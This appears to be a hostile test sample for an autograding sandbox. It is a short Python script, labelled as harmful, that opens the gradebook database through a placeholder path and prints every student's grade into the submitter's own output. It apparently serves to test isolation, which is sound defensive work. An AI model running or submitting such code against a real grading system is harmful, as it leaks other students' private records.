# where: first
# kind: harms
# does: The grades of others are printed into the student's own outputs.
import sqlite3

try:
    for row in sqlite3.connect("file:@GRADEBOOK@?mode=ro", uri=True).execute("SELECT * FROM grade"):
        print(row)
except Exception as error:
    print(error)
